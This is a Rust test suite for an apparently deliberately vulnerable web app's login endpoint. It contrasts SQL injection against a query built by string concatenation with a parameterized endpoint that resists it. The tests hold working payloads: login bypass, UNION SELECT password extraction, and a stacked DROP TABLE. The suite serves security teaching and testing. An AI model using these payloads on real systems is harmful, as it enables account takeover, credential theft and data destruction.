//! SQL injection through the login endpoint
//!
//! `/login` concatenates form values into its query, so injected SQL runs.
//! `/brute-force` binds the same values as parameters, so it does not.

use actix_web::http::StatusCode;
use actix_web::test::{TestRequest, call_service, read_body_json};
use serde_json::Value;
use vulnerable_app::responses::v1::auth::AuthResult;

macro_rules! post_form {
    ($service:expr, $uri:expr, $form:expr) => {{
        let req = TestRequest::post().uri($uri).set_form($form).to_request();
        let resp = call_service(&$service, req).await;

        assert_eq!(resp.status(), StatusCode::OK);

        let body: AuthResult = read_body_json(resp).await;
        body
    }};
}

const TAUTOLOGY: &str = "' OR '1'='1";

/// Attack vector: boolean tautology in the username
/// Expected: the WHERE clause always holds and the first user is greeted
#[actix_web::test]
async fn test_tautology_in_username_bypasses_login() {
    let (service, _store, _dir) = vulnerable_app::service!();

    let body = post_form!(
        service,
        "/login",
        &[("username", TAUTOLOGY), ("password", "anything")]
    );

    assert!(body.success, "injection should log in: {}", body.message);

    let username = body
        .message
        .strip_prefix("Welcome ")
        .and_then(|rest| rest.strip_suffix('!'))
        .expect("message should be formatted as `Welcome <username>!`");
    assert!(["admin", "user1"].contains(&username), "unexpected user {username}");
}

/// Attack vector: comment out the rest of the query after a tautology
#[actix_web::test]
async fn test_comment_injection_bypasses_login() {
    let (service, _store, _dir) = vulnerable_app::service!();

    let body = post_form!(
        service,
        "/login",
        &[("username", "' OR 1=1 --"), ("password", "")]
    );

    assert!(body.success);
    assert!(body.message.starts_with("Welcome "));
}

/// Attack vector: tautology in the password with an unknown username
/// Expected: the username comparison is evaluated last, so nobody logs in
#[actix_web::test]
async fn test_tautology_in_password_needs_a_real_username() {
    let (service, _store, _dir) = vulnerable_app::service!();

    let body = post_form!(
        service,
        "/login",
        &[("username", "nobody"), ("password", TAUTOLOGY)]
    );

    assert_eq!(body, AuthResult::invalid_credentials());
}

/// Attack vector: UNION SELECT with an aggregate in the greeted column
/// Expected: the number is greeted instead of reported as an error
#[actix_web::test]
async fn test_union_injection_greets_aggregate() {
    let (service, _store, _dir) = vulnerable_app::service!();

    let body = post_form!(
        service,
        "/login",
        &[
            ("username", "' UNION SELECT 1, count(*), 3, 4 FROM users --"),
            ("password", "anything"),
        ]
    );

    assert_eq!(body, AuthResult::success("Welcome 2!"));
}

/// Attack vector: UNION SELECT returning attacker-chosen values
/// Expected: the greeting echoes the injected column
#[actix_web::test]
async fn test_union_injection_controls_greeting() {
    let (service, _store, _dir) = vulnerable_app::service!();

    let body = post_form!(
        service,
        "/login",
        &[
            ("username", "' UNION SELECT 99, 'injected', 'x', 'y' --"),
            ("password", "anything"),
        ]
    );

    assert_eq!(body, AuthResult::success("Welcome injected!"));
}

/// Attack vector: UNION SELECT exfiltrating another user's password
#[actix_web::test]
async fn test_union_injection_exfiltrates_password() {
    let (service, _store, _dir) = vulnerable_app::service!();

    let body = post_form!(
        service,
        "/login",
        &[
            (
                "username",
                "' UNION SELECT id, password, username, email FROM users WHERE username = 'admin' --",
            ),
            ("password", "anything"),
        ]
    );

    assert_eq!(body, AuthResult::success("Welcome admin123!"));
}

/// Attack vector: unbalanced quote
/// Expected: the SQLite error text is disclosed in the message
#[actix_web::test]
async fn test_syntax_error_is_disclosed() {
    let (service, _store, _dir) = vulnerable_app::service!();

    let body = post_form!(
        service,
        "/login",
        &[("username", "admin'"), ("password", "x")]
    );

    assert!(!body.success);
    assert!(body.message.starts_with("Error: "), "got {}", body.message);
    assert!(body.message.len() > "Error: ".len());
}

/// Attack vector: stacked DROP TABLE
/// Expected: the login still answers with a JSON body, whatever SQLite made of it
#[actix_web::test]
async fn test_stacked_statement_returns_json() {
    let (service, _store, _dir) = vulnerable_app::service!();

    let req = TestRequest::post()
        .uri("/login")
        .set_form([("username", "x'; DROP TABLE posts; --"), ("password", "x")])
        .to_request();
    let resp = call_service(&service, req).await;

    assert_eq!(resp.status(), StatusCode::OK);
    let body: Value = read_body_json(resp).await;
    assert_eq!(body["success"], false);
    assert!(body["message"].is_string());
}

/// The same tautology is inert against the parameterized endpoint
#[actix_web::test]
async fn test_tautology_is_blocked_on_brute_force() {
    let (service, _store, _dir) = vulnerable_app::service!();

    let body = post_form!(
        service,
        "/brute-force",
        &[("username", TAUTOLOGY), ("password", "anything")]
    );

    assert_eq!(body, AuthResult::invalid_credentials());
}

#[actix_web::test]
async fn test_union_injection_is_blocked_on_brute_force() {
    let (service, _store, _dir) = vulnerable_app::service!();

    let body = post_form!(
        service,
        "/brute-force",
        &[
            ("username", "' UNION SELECT 99, 'injected', 'x', 'y' --"),
            ("password", "anything"),
        ]
    );

    assert!(!body.success);
}
